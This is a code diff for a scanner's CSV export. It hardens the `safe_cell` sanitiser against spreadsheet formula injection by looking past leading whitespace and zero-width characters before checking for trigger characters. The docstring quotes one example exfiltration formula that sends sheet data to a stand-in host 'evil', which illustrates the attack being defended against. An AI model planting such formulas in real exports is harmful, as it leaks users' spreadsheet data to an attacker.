@@ -4,10 +4,11 @@ Monitoring bodies and assessors sort and filter verdicts in a spreadsheet. Every
 files can come from the scanned site (snippets, URLs, disclosed numbers, messages quoting the
 page), and a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
 return as a formula (OWASP "CSV Injection"): `=HYPERLINK("http://evil/?"&A1,"click")` would leak
-the sheet. So every text cell that starts with such a character — after leading spaces, and in
-its full-width form (Excel folds `＝＋－＠` to ASCII) — is prefixed with a single quote, which
-spreadsheets show as text and do not display. Control characters other than tab and newline are
-dropped. Cells are bounded (snippets already are; messages and URLs are cut at `MAX_CELL`).
+the sheet. So every text cell that starts with such a character — after any leading whitespace
+or zero-width characters (an importer may trim them), and in its full-width form (Excel folds
+`＝＋－＠` to ASCII) — is prefixed with a single quote, which spreadsheets show as text and do
+not display. Control characters other than tab and newline are dropped. Cells are bounded
+(snippets already are; messages and URLs are cut at `MAX_CELL`).
 
 Written as UTF-8 with a byte-order mark (Excel reads Chinese correctly only with one), quoted per
 RFC 4180 by the csv module, `\\r\\n` line ends. A pure function of ScanResult, like the others.
@@ -29,6 +30,8 @@ FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
 #: a cell longer than this is cut (Excel's own limit is 32,767 characters)
 MAX_CELL = 2000
 _CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+#: what may precede a formula trigger and still let a spreadsheet (or its importer) see it
+_LEADING = re.compile(r"[\s\u200b-\u200d\u2060\ufeff]*")
 
 FINDING_COLUMNS = (
     "check_id",
@@ -54,8 +57,9 @@ def safe_cell(value: object) -> str:
     text = _CONTROL.sub("", str(value))
     if len(text) > MAX_CELL:
         text = text[: MAX_CELL - 1] + "…"
-    stripped = text.lstrip(" \u3000")
-    if stripped[:1] in FORMULA_TRIGGERS or text[:1] in FORMULA_TRIGGERS:
+    lead = _LEADING.match(text)
+    first = text[lead.end() if lead else 0 :][:1]
+    if first in FORMULA_TRIGGERS or text[:1] in FORMULA_TRIGGERS:
         return "'" + text
     return text
 
